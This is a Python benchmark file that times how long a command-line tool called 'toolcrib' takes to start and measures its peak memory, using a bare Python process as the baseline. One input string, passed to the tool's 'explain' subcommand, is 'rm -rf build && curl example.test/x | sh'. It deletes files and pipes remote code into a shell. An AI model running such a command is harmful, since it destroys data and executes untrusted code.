"""Cost of starting, against an interpreter that does nothing.

It is measured in processor time, because both wait on a busy machine.
"""

from __future__ import annotations

import resource
import subprocess
import sys
import tempfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from benchmarks.core import CannotMeasureError, Figure, clean_environment, median_of_each

DEFINITIONS = "import model_tools; model_tools.get_tool_definitions()"
EXPLAINED = "rm -rf build && curl example.test/x | sh"
_EXPLAIN = 28
"""Bar of start.explain.

The answer includes effects that the default sandbox would contain; without a sandbox, the ratio is about 16.
"""
# VmHWM rather than ru_maxrss, which a child inherits from its parent.
PEAK = "print(next(line for line in open('/proc/self/status') if line.startswith('VmHWM')).split()[1])"


def measure(*, quick: bool) -> list[Figure]:
    """Return processor time and peak memory of new processes, from start to end."""
    command = Path(sys.executable).with_name("toolcrib")
    if not command.exists():
        raise CannotMeasureError(f"{command} is missing; install the project first (pip install -e .)")
    providers = _provider_modules()
    with tempfile.TemporaryDirectory(prefix="toolcrib-bench-") as folder:
        home = Path(folder)
        runs = {
            "pass": _process([sys.executable, "-c", "pass"], home),
            "version": _process([str(command), "--version"], home),
            "definitions": _process([sys.executable, "-c", DEFINITIONS], home),
            "explain": _process([str(command), "explain", EXPLAINED], home, expect=1),
            **{module: _process([sys.executable, "-c", f"import {module}"], home) for module in providers},
        }
        for run in runs.values():
            run()  # compiles bytecode that is missing
        took = {name: seconds * 1e3 for name, seconds in median_of_each(runs, 1 if quick else 40).items()}
    rounds = 1 if quick else 5
    peak = median_of_each({"pass": _peak(PEAK), "definitions": _peak(f"{DEFINITIONS}; {PEAK}")}, rounds)
    nothing = "python -c pass"
    worst = max(providers, key=took.__getitem__)
    against = f"{nothing}; the worst: {worst.rpartition('.')[2]}"
    return [
        Figure("start.version", took["version"], "ms", took["pass"], 6, "ratio", nothing),
        Figure("start.definitions", took["definitions"], "ms", took["pass"], 9, "ratio", nothing),
        Figure("start.definitions_rss", peak["definitions"], "MiB", peak["pass"], 40, "value", nothing),
        Figure("start.explain", took["explain"], "ms", took["pass"], _EXPLAIN, "ratio", nothing),
        Figure("start.provider", took[worst], "ms", took["pass"], 14, "ratio", against),
    ]


def _provider_modules() -> list[str]:
    from agent.providers.rows import PROVIDERS

    return sorted({provider.wire.session.partition(":")[0] for provider in PROVIDERS.values()})


def _process(command: Sequence[str], home: Path, expect: int = 0) -> Callable[[], float]:
    environment = clean_environment(home)
    quiet: dict[str, Any] = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "env": environment, "cwd": home}

    def run() -> float:
        before = _of_children()
        done = subprocess.run(command, check=False, **quiet)
        if done.returncode != expect:
            raise CannotMeasureError(f"{' '.join(command)} ended with {done.returncode}")
        return _of_children() - before

    return run


def _of_children() -> float:
    """Return the processor time of ended children, in seconds."""
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    return used.ru_utime + used.ru_stime


def _peak(code: str) -> Callable[[], float]:
    environment = clean_environment()

    def run() -> float:
        done = subprocess.run([sys.executable, "-c", code], check=True, env=environment, capture_output=True, text=True)
        return int(done.stdout.split()[-1]) / 1024

    return run
